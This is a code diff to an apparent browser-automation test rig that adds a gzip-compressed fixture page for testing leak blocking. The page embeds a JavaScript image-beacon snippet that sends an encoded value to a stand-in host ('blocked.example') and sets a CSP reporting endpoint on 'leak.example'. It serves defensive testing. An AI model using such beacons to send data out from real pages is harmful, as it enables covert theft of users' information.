@@ -7,6 +7,7 @@
 import assert from 'node:assert/strict';
 import type { ServerResponse } from 'node:http';
 import { after, before } from 'node:test';
+import { gzipSync } from 'node:zlib';
 import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
 import { type Fixture, html, type Seen, startFixture, testChromeArgs } from './fixtureServer.ts';
 import { type InProcessBrowser, type InProcessMcp, startInProcess } from './inProcessMcp.ts';
@@ -230,6 +231,21 @@ export function userChromeRig() {
               'reporting-endpoints': `default="${site.url('leak.example', '/report-to')}"`,
             },
           ),
+        // The same page compressed (its body as the network service decodes it is what tabward answers with).
+        '/report-leak-gzip': (_req, _body, res) => {
+          const page = notePage(
+            'Notes',
+            `(v) => { const img = new Image(); img.src = 'https://blocked.example:' + location.port + '/pixel?d=' + encodeURIComponent(v); document.body.append(img) }`,
+          );
+          res
+            .writeHead(200, {
+              'content-type': 'text/html; charset=utf-8',
+              'content-encoding': 'gzip',
+              'content-security-policy': "img-src 'self'; report-to default",
+              'reporting-endpoints': `default="${site.url('leak.example', '/report-to?from=gzip')}"`,
+            })
+            .end(gzipSync(page));
+        },
         'OPTIONS /report-to': (_req, _body, res) => permissive(res),
         '/report-uri-leak': (_req, _body, res) =>
           html(
